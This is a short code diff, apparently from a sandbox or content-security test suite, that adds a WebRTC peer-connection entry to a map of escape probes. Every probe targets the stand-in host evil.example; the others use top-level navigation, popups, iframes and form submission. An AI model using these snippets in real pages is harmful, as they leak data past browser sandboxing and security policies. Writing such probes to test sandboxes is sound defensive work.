@@ -28,6 +28,7 @@ const WAYS_OUT: Readonly<Record<string, string>> = {
   'the page': `return parent.document.body`,
   'the page’s address': `top.location.href = 'https://evil.example/?key'; return new Promise((_, no) => setTimeout(no, 200))`,
   'a window of its own': `if (open('https://evil.example/?key') === null) throw 1`,
+  'a peer connection': `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example' }] }); c.createDataChannel('x'); await c.setLocalDescription()`,
   'a frame in it': `return new Promise((ok, no) => { const f = document.createElement('iframe'); addEventListener('securitypolicyviolation', no); f.src = 'https://evil.example/?key'; f.onload = () => setTimeout(ok, 300); document.body.append(f) })`,
   'a form': `const f = document.createElement('form'); f.action = 'https://evil.example'; document.body.append(f); f.submit(); return new Promise((_, no) => setTimeout(no, 200))`,
   'another script': `const s = document.createElement('script'); globalThis.ran = false; s.text = 'ran = true'; document.body.append(s); if (!ran) throw 1`,
